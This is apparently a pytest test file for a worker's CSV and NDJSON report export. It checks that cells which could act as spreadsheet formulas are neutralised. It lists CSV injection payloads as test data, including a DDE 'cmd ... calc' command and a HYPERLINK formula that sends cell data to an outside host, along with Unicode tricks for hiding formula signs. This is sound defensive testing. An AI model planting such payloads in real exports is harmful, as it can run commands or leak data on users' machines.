"""Reports as files: no cell becomes a formula, no value is lost."""

import csv
import io
import json
import sys
import unicodedata
from collections.abc import Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st

from worker.exports.outcomes import Outcome, ReportLine
from worker.store.report_files import to_csv, to_ndjson

SIGNS = "=+-@"
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    "+1-800-555",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ttab",
    "\rreturn",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\u00ad=1+1",
    "\x00=1+1",
    "=\x001+1",
    " \t\r\n =1+1",
    "\x01=1+1",
    "\x7f=1+1",
    "\x85=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\ufe621",
    "\u22121",
    "+someone@example.com",
]
HARMLESS = [
    "",
    "someone@example.com",
    "a=b",
    "1+1",
    "O'Neil-Smith",
    "ERROR_GENERIC",
    "'=1",
    "|x",
    "Ünï ©",
    "100",
]


def line(cell: str) -> ReportLine:
    return ReportLine(cell, 7, cell, cell, cell, cell, cell)


def as_csv(*lines: ReportLine) -> str:
    out = io.StringIO(newline="")
    to_csv(lines, out)
    return out.getvalue()


def cells(cell: str) -> list[str]:
    _, row = csv.reader(io.StringIO(as_csv(line(cell)), newline=""), strict=True)
    return row[:1] + row[2:]


def test_the_csv_has_a_heading_and_every_cell_is_quoted() -> None:
    rejected = ReportLine(
        "loyal", 12, "a@example.com", Outcome.REJECTED, "ERROR_GENERIC", "FNAME", 'Say "hi"'
    )

    assert as_csv(rejected) == (
        '"segment","row","email","outcome","code","field","message"\n'
        '"loyal","12","a@example.com","rejected","ERROR_GENERIC","FNAME","Say ""hi"""\n'
    )
    assert as_csv() == '"segment","row","email","outcome","code","field","message"\n'


@pytest.mark.parametrize("formula", FORMULAS)
def test_what_could_be_a_formula_is_text(formula: str) -> None:
    for cell in cells(formula):
        assert cell.startswith("'")


@pytest.mark.parametrize("text", HARMLESS)
def test_what_can_not_be_a_formula_is_left_alone(text: str) -> None:
    assert set(cells(text)) == {text}


def test_every_letter_that_unicode_holds_for_such_a_sign_is_guarded() -> None:
    letters = [
        letter
        for letter in map(chr, range(sys.maxunicode + 1))
        if unicodedata.normalize("NFKC", letter)[:1] in tuple(SIGNS)
    ]

    assert len(letters) > len(SIGNS)
    for letter in letters:
        assert cells(f"{letter}1+1")[0].startswith("'"), unicodedata.name(letter)


def test_nothing_that_can_not_be_seen_hides_a_sign() -> None:
    for letter in map(chr, range(sys.maxunicode + 1)):
        if letter.isspace() or unicodedata.category(letter) == "Cf":
            assert cells(f"{letter}=1+1")[0].startswith("'"), f"U+{ord(letter):04X}"


@given(st.text(st.characters(codec="utf-8")))
def test_a_profile_is_one_line_and_reads_as_one_row_whatever_it_holds(text: str) -> None:
    written = as_csv(line(text), line("x"))

    assert len(written.splitlines()) == 3
    assert "\0" not in written
    for cell in cells(text):
        assert not cell.startswith(tuple(SIGNS))
        assert cell.removeprefix("'")[-1:] not in tuple("\r\n")


def test_line_breaks_are_spaces_and_a_break_of_two_letters_is_one() -> None:
    assert cells("a\r\nb\nc\rd\u2028e") == ["a b c d e"] * 6


def test_ndjson_has_the_exact_values_in_the_same_columns() -> None:
    out = io.StringIO()
    exact = '=1+1\t\r\n\0 "quoted" ü 🙂 \u2028'
    to_ndjson([line(exact), line("b")], out)

    first, second = out.getvalue().split("\n")[:-1]

    assert json.loads(first) == {
        "segment": exact,
        "row": 7,
        "email": exact,
        "outcome": exact,
        "code": exact,
        "field": exact,
        "message": exact,
    }
    assert list(json.loads(second)) == ["segment", "row", "email", "outcome", "code", "field", "message"]


def test_lines_are_written_as_they_come() -> None:
    out = io.StringIO()

    def lines() -> Iterator[ReportLine]:
        yield line("a")
        assert out.getvalue().count("\n") == 1
        yield line("b")

    to_ndjson(lines(), out)
    assert out.getvalue().count("\n") == 2
